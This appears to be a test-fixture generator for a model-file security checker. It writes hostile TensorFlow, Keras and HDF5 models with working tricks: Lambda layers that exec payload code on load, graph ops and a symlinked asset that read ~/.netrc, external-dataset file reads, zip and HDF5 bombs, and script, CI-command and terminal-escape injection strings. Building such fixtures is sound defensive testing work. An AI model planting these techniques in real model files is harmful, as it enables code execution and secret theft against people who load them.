"""Run by a runtime's own Python: `save_attacks.py FOLDER TARGETS`. Saves every hostile model, and twenty honest ones.

Each is a file as TensorFlow, Keras or HDF5 itself writes it. TARGETS is a JSON file with the paths of the canaries that
have to be known when a model is made, because the attack is data and no code.
"""

from __future__ import annotations

import inspect
import json
import os
import sys
import zipfile
from types import FunctionType
from typing import Any

import h5py
import numpy as np
import tensorflow as tf

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import payloads  # type: ignore[import-not-found]  # it lies beside this file, where the runtime runs it

HONEST = 20
BOMB = 1536 << 20
"""Bytes that a bomb unpacks to; the file is a thousandth of it."""


def attack(x: Any, source: str = "", name: str = "") -> Any:
    """What every hostile Lambda layer calls. It behaves while it is saved, and does not fail where it is stopped."""
    import json
    import os
    import traceback

    if os.environ.get("TARGETS"):
        scope: dict[str, Any] = {"__name__": "attack"}
        try:
            exec(source, scope)  # noqa: S102 - code in a model is the point
            scope[name](json.loads(os.environ["TARGETS"]))
        except BaseException:  # noqa: BLE001 - sys.exit too
            traceback.print_exc()
    return x


def hostile(function: Any) -> Any:
    """A function of its own, as a model's author would write one: what Keras stores is its code and its defaults."""
    return FunctionType(attack.__code__, {}, "attack", (inspect.getsource(function), function.__name__))


def inside_py_function(x: Any, source: str = "", name: str = "") -> Any:
    import tensorflow as tf

    def run(value: Any) -> Any:
        import json
        import os
        import traceback

        if os.environ.get("TARGETS"):
            scope: dict[str, Any] = {"__name__": "attack"}
            try:
                exec(source, scope)  # noqa: S102 - code in a model is the point
                scope[name](json.loads(os.environ["TARGETS"]))
            except BaseException:  # noqa: BLE001 - sys.exit too
                traceback.print_exc()
        return value

    return tf.ensure_shape(tf.py_function(run, [x], tf.float32), x.shape)


def with_layer(layer: Any) -> Any:
    tf.keras.backend.clear_session()
    return tf.keras.Sequential([tf.keras.Input((2,)), layer])


def save_lambdas(folder: str) -> None:
    for function in payloads.LAMBDAS:
        model = with_layer(tf.keras.layers.Lambda(hostile(function)))
        model.save(os.path.join(folder, function.__name__ + ".h5"))


def save_other_python(folder: str) -> None:
    """The same code by other ways: in a SavedModel's metadata, in `py_function`, in a loss."""
    function = payloads.reads_a_credentials_file
    model = with_layer(tf.keras.layers.Lambda(hostile(function)))
    model.save(os.path.join(folder, "a_lambda_in_a_saved_model"), save_format="tf")
    defaults = (inspect.getsource(payloads.connects_by_tcp), "connects_by_tcp")
    later = FunctionType(inside_py_function.__code__, {}, "later", defaults)
    with_layer(tf.keras.layers.Lambda(later)).save(os.path.join(folder, "code_in_py_function.h5"))


class Initializer(tf.lookup.KeyValueTensorInitializer):  # type: ignore[misc]  # TensorFlow brings no types
    """A table's initialiser, which TensorFlow runs when it loads a SavedModel."""

    def __init__(self, act: Any) -> None:
        super().__init__(["a"], ["b"])
        self._act = act

    def initialize(self, table: Any) -> Any:
        with tf.control_dependencies([self._act()]):
            return super().initialize(table)


def save_ops(folder: str, name: str, act: Any, asset: str = "") -> None:
    """A SavedModel without a line of Python: its graph does what `act` builds."""
    module = tf.Module()
    if asset:
        module.asset = tf.saved_model.Asset(asset)
    module.table = tf.lookup.StaticHashTable(Initializer(lambda: act(module)), "")
    module.call = tf.function(module.table.lookup, input_signature=[tf.TensorSpec([], tf.string)])
    tf.saved_model.save(module, os.path.join(folder, name))


def save_graphs(folder: str, targets: Any) -> None:
    secret, written = targets["home"] + "/.netrc", targets["repository"] + "/written_by_an_op"

    def tell(path: Any) -> Any:
        return tf.print("LOOT", tf.io.read_file(path), summarize=-1)

    save_ops(folder, "an_op_reads_a_file", lambda _: tell(secret))
    save_ops(folder, "an_op_writes_a_file", lambda _: tf.io.write_file(written, "x"))
    save_ops(folder, "an_op_reads_a_file_below_its_folder", lambda _: tell(targets["below"]))
    names = tf.io.matching_files
    save_ops(folder, "an_op_lists_a_folder", lambda _: tf.print("LOOT", names(targets["listed"] + "/*"), summarize=-1))
    # while it is saved the initialiser runs as well
    os.remove(written)
    harmless = os.path.join(folder, "vocabulary.txt")
    with open(harmless, "w") as stream:
        stream.write("a\n")

    save_ops(folder, "an_asset_is_a_link", lambda module: tell(module.asset.asset_path), asset=harmless)
    os.remove(harmless)
    asset = os.path.join(folder, "an_asset_is_a_link", "assets", "vocabulary.txt")
    os.remove(asset)
    os.symlink(secret, asset)


def prints_its_input(x: Any) -> Any:
    import os

    if hasattr(x, "numpy"):
        os.write(1, b"LOOT " + x.numpy().tobytes() + b"\n")
    return x


def save_hdf5(folder: str, targets: Any) -> None:
    """Weights that lie in another file, as HDF5 itself allows; a layer prints them where the model is run.

    Links to other HDF5 files, and virtual data sets, lead nowhere here: Keras 2.15 opens a file object, and no path.
    """
    layers = [tf.keras.Input((1,)), tf.keras.layers.Dense(16, name="d"), tf.keras.layers.Lambda(prints_its_input)]
    path = os.path.join(folder, "external_data.h5")
    tf.keras.Sequential(layers).save(path)
    with h5py.File(path, "r+") as file:
        group = file["model_weights/d/d"]
        del group["bias:0"]
        group.create_dataset("bias:0", shape=(16,), dtype="<f4", external=[(targets["raw"], 0, 64)])


def save_bombs(folder: str) -> None:
    model = with_layer(tf.keras.layers.Dense(1))
    whole = os.path.join(folder, "whole.keras")
    model.save(whole)
    with (
        zipfile.ZipFile(whole) as good,
        zipfile.ZipFile(os.path.join(folder, "zip_bomb.keras"), "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for member in good.namelist():
            content = good.read(member)
            with bomb.open(member, "w", force_zip64=True) as stream:
                stream.write(content)
                for _ in range(BOMB >> 20 if member == "config.json" else 0):
                    stream.write(b" " * (1 << 20))
    os.remove(whole)
    with h5py.File(os.path.join(folder, "hdf5_bomb.h5"), "w") as file:
        shape = (BOMB >> 20, 1 << 18)
        # as `save_weights` writes them
        file.attrs["layer_names"], file.attrs["backend"] = [b"d"], b"tensorflow"
        layer = file.create_group("d")
        layer.attrs["weight_names"] = [b"d/kernel:0"]
        name = "d/kernel:0"
        data = layer.create_dataset(name, shape, "<f4", chunks=(4, 1 << 18), compression="gzip", compression_opts=1)
        data[:4] = np.ones((4, 1 << 18), "<f4")


def raises_markup(x: Any) -> Any:
    import os

    if os.environ.get("TARGETS"):
        raise ValueError(
            "hostile\n::set-output name=hostile::1\n::error::hostile\n"
            "<script>alert(1)</script><img src=x onerror=alert(1)>"
            "\n[click](javascript:alert(1)) ![x](http://hostile.example/x.png) @everyone #1\n]]></failure><testcase/>"
            "\x00\x08\x1b[2J\x9b31m \u202egnp.exe\u2066\u200f ```\n# hostile"
        )
    return x


def save_injections(folder: str) -> None:
    """Text where people will read it: in exceptions, in names of layers, of functions and of files."""
    with_layer(tf.keras.layers.Lambda(raises_markup)).save(os.path.join(folder, "raises_markup.h5"))
    path = os.path.join(folder, "names_with_markup.h5")
    with_layer(tf.keras.layers.Dense(1, name="honest_name")).save(path)
    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        layer = config["config"]["layers"][-1]
        layer["class_name"] = "<img src=x onerror=alert(1)>\n::error::hostile\x1b[2J\u202e|`#"
        file.attrs["model_config"] = json.dumps(config)


def save_honest(folder: str) -> None:
    keras = tf.keras.layers
    for number in range(HONEST):
        tf.keras.backend.clear_session()
        layers = [tf.keras.Input((8, 8, 1)), keras.Conv2D(2 + number, 3), keras.Flatten(), keras.Dense(1 + number)]
        suffix = (".h5", ".keras")[number % 2]
        tf.keras.Sequential(layers).save(os.path.join(folder, f"honest_{number:02d}{suffix}"))


def main(folder: str, targets: Any) -> None:
    save_lambdas(folder)
    save_other_python(folder)
    save_graphs(folder, targets)
    save_hdf5(folder, targets)
    save_bombs(folder)
    save_injections(folder)
    save_honest(folder)


if __name__ == "__main__":
    with open(sys.argv[2]) as stream:
        main(sys.argv[1], json.load(stream))
